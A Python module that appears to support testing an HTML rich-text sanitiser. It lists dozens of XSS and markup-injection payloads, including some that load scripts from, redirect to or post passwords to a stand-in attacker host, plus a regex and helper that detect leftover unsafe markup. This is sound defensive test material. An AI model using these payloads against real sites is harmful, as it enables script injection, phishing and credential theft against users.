"""Markup that a browser would run, load or be led astray by, and markup that is as harmless as it looks."""

import re

HOSTILE = [
    'A<!--> <img src=x onerror="alert(1)"> <!-- -->',
    "A<!---><script src=/static/wagtailadmin/js/core.js></script><!-- -->",
    "<!--><svg onload=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!x><img src=x onerror=alert(1)>",
    "<?x <img src=x onerror=alert(1)>?>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</!-- ><img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT >",
    "<script src=//ke-xau.vn/a.js>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='JAVASCRIPT&#58;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://quangngai.gov.vn/' onclick=alert(1) style='position:fixed'>x</a>",
    "<base href='https://ke-xau.vn/'>",
    "<meta http-equiv=refresh content='0;url=https://ke-xau.vn/'>",
    "<link rel=stylesheet href=https://ke-xau.vn/a.css>",
    "<style>body{display:none}</style>",
    "<p style='background:url(https://ke-xau.vn/)' onmouseover=alert(1)>x</p>",
    "<b onpointerenter=alert(1)>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<form action=https://ke-xau.vn/><input name=password><button>Đăng nhập</button></form>",
    "<img src='x' onerror='alert(1)'",
    "<img src=`x`onerror=alert(1)>",
    '<a href="#" title="\'><script>alert(1)</script>">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<plaintext><img src=x onerror=alert(1)>",
]
# Nothing but elements of rich text, each with its plain attributes and each of these in quotes.
_HARMLESS_TAG = re.compile(
    r"</?(?:abbr|acronym|blockquote|br|code|em|h[234]|hr|li|[ou]l|strong|su[bp]|[bips]"
    r'|img(?: (?:alt|class|height|width)="[^"<>]*"| src="(?:x|`x`onerror=alert\(1\)|1)?")*'
    r'|a(?: (?:id|linktype)="[^"<>]*"| href="(?:https?://|mailto:|tel:|/|#)[^"<>]*")*)(?: data-block-key="[^"<>]*")?/?>'
)


def remains_of(markup):
    """What a browser could take for more than harmless rich text in `markup`; "" for nothing."""
    rest = _HARMLESS_TAG.sub("", markup)
    return rest if "<" in rest else ""
